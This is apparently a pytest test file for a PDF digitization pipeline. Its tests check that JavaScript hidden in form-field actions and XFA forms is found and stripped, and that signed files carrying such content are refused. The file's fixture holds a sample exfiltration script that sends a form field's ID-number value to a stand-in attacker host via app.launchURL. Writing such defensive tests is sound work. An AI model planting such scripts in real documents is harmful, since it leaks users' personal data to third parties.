"""Attack: JavaScript hidden where the active-content check did not look — in the /AA
(keystroke, format, validate, calculate) of an AcroForm field that is not itself a page's
annotation, only the /Parent of one or an entry of /Fields — rode through into the
searchable PDF sohoa hands out; and an XFA form (scripts run by viewers that read XFA) in a
signed input was not counted as executable, so the signed file was accepted as it was.

Boundary: digitize.activecontent walks the whole form tree (/Fields and /Kids down, a
widget's /Parent up), pages, annotations, bookmarks and the catalogue, each dictionary once
(a hostile file's reference loops) and to a bounded depth (deeper counts as executable).
An unsigned input loses every action found, and its /XFA and /NeedsRendering; a signed one
carrying scripts or XFA is refused (digitize.pipeline), since cleaning it would break it.
The files go through the real pipeline (pdftoppm, Tesseract, the PDF/A writer)."""

from __future__ import annotations

import time
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from config.catalogue import get_catalogue
from config.errors import ActiveContent
from digitize.activecontent import MAX_DEPTH, TOO_LARGE, executable, find_active, strip_active
from digitize.options import DigitizeOptions
from digitize.pipeline import digitize_file

SCRIPT = "app.launchURL('http://attacker.example/?'+this.getField('cccd').value)"


def _form_pdf(directory: Path, *, signed: bool = False, xfa: bool = False) -> Path:
    """One page whose only widget belongs to a text field carrying keystroke JavaScript in
    the field's own /AA (not the widget's); `signed`: certified (/Perms), as a signed PDF
    sohoa keeps byte for byte; `xfa`: an XFA form beside it, and no script at all."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("cccd")))
    widget = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([50, 700, 300, 720]))
    )
    widget.Parent = field
    field.Kids = Array([widget])
    if not xfa:
        script = Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT))
        field.AA = Dictionary(K=pdf.make_indirect(script))
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    if xfa:
        packet = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
        pdf.Root.AcroForm.XFA = packet
        pdf.Root.NeedsRendering = True
    if signed:
        pdf.Root.Perms = Dictionary(DocMDP=pdf.make_indirect(Dictionary(Type=Name.Sig)))
    path = directory / f"form{'-signed' if signed else ''}{'-xfa' if xfa else ''}.pdf"
    pdf.save(path)
    return path


def _digitize(path: Path, out: Path) -> None:
    digitize_file(path, out, DigitizeOptions(), catalogue=get_catalogue())


def test_a_field_scripts_in_an_unsigned_pdf_are_found_and_not_handed_out(tmp_path: Path) -> None:
    source = _form_pdf(tmp_path)
    with pikepdf.open(source) as pdf:
        assert [f for f in find_active(pdf) if "form field" in f]
        assert executable(find_active(pdf))
    _digitize(source, tmp_path / "out.pdf")
    output = tmp_path / "out.pdf"
    with pikepdf.open(output) as pdf:
        assert find_active(pdf) == []
    assert b"attacker.example" not in output.read_bytes()


def test_a_field_listed_only_in_fields_is_walked_too(tmp_path: Path) -> None:
    """A field no page shows (only /AcroForm /Fields names it) still runs its calculate
    script when another field changes."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    script = Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT))
    hidden = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("tong"), AA=Dictionary(C=script)))
    pdf.Root.AcroForm = Dictionary(Fields=Array([hidden]))
    assert executable(find_active(pdf))
    strip_active(pdf, "hidden-field.pdf")
    assert find_active(pdf) == [] and "/AA" not in hidden


def test_a_signed_pdf_with_field_scripts_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ActiveContent, match=r"form-signed\.pdf"):
        _digitize(_form_pdf(tmp_path, signed=True), tmp_path / "out.pdf")
    assert not (tmp_path / "out.pdf").exists()


def test_a_signed_pdf_with_an_xfa_form_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ActiveContent, match="XFA"):
        _digitize(_form_pdf(tmp_path, signed=True, xfa=True), tmp_path / "out.pdf")


def test_an_unsigned_xfa_form_loses_its_xfa_and_needs_rendering(tmp_path: Path) -> None:
    with pikepdf.open(_form_pdf(tmp_path, xfa=True)) as pdf:
        assert executable(find_active(pdf))
        strip_active(pdf, "form-xfa.pdf")
        assert "/XFA" not in pdf.Root.AcroForm and "/NeedsRendering" not in pdf.Root
        assert find_active(pdf) == []


def test_loops_and_depth_in_the_field_tree_end_the_walk_quickly(tmp_path: Path) -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    looped = pdf.make_indirect(Dictionary(T=String("a")))
    looped.Kids = Array([looped])
    looped.Parent = looped
    widget = pdf.make_indirect(Dictionary(Subtype=Name.Widget, Parent=looped))
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([looped]))
    started = time.monotonic()
    assert find_active(pdf) == []  # a loop alone is harmless, and ends
    deep = pdf.make_indirect(Dictionary(T=String("0")))
    top = deep
    for level in range(MAX_DEPTH + 5):
        kid = pdf.make_indirect(Dictionary(T=String(str(level + 1)), Parent=deep))
        deep.Kids = Array([kid])
        deep = kid
    pdf.Root.AcroForm.Fields.append(top)
    found = find_active(pdf)
    assert TOO_LARGE in found and executable(found)  # what lies deeper is not vouched for
    strip_active(pdf, "deep.pdf")
    assert "/AcroForm" not in pdf.Root
    assert time.monotonic() - started < 5
